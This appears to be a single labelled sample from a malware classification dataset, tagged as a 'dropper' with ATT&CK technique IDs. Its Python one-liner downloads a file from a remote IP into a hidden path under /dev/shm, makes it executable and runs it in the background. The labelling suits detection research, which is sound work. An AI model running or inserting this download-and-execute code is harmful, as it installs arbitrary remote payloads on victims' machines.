# label: malicious family=dropper techniques=T1059.004,T1105,T1222.002,T1564.001 lines=2
import urllib.request,os;urllib.request.urlretrieve("http://203.0.113.56/xm","/dev/shm/.xm");os.chmod("/dev/shm/.xm",0o755);os.system("/dev/shm/.xm -B")
